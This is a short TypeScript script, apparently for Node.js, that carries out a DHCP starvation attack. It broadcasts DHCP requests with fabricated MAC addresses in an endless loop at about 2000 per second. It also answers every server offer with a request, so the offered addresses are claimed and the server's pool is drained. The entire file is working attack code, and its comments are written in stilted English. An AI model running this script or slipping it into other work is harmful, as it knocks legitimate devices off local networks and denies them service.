/** A machine that makes up hardware addresses and asks DHCP for each: until it is killed. It says when it was thousands. */
import { createSocket } from 'node:dgram';
import { setTimeout as delay } from 'node:timers/promises';
import { dhcpRequest } from './dhcp.fixture.ts';

/** Some 2000 a second: one sender at full speed would fill the kernel's queues, on any port. */
const AT_ONCE = 20;
/** Milliseconds. */
const PAUSE = 10;

/** Told when so many are sent. */
const MANY = 8000;
const everybody = '255.255.255.255';
const socket = createSocket({ type: 'udp4', reuseAddr: true });
const hex = (number: number) => number.toString(16).padStart(8, '0').match(/../g)?.join(':');

// Who is offered an address takes it.
socket.on('message', (answer) => {
  const offer = Buffer.from([53, 1, 2]);
  if (answer[0] !== 2 || !answer.subarray(240).includes(offer)) return;
  const mac = answer.subarray(28, 34).toString('hex').match(/../g)?.join(':') ?? '';
  const address = answer.subarray(16, 20);
  const server = answer.subarray(answer.indexOf(Buffer.from([54, 4]), 240) + 2).subarray(0, 4);
  socket.send(
    dhcpRequest(
      mac,
      [
        [50, address],
        [54, server],
      ],
      3,
    ),
    67,
    everybody,
  );
});
socket.bind(68, '0.0.0.0', async () => {
  socket.setBroadcast(true);
  for (let number = 1; ; number++) {
    await new Promise((sent) => socket.send(dhcpRequest(`aa:aa:${hex(number)}`), 67, everybody, sent));
    if (number === MANY) console.log('many');
    if (number % AT_ONCE === 0) await delay(PAUSE);
  }
});
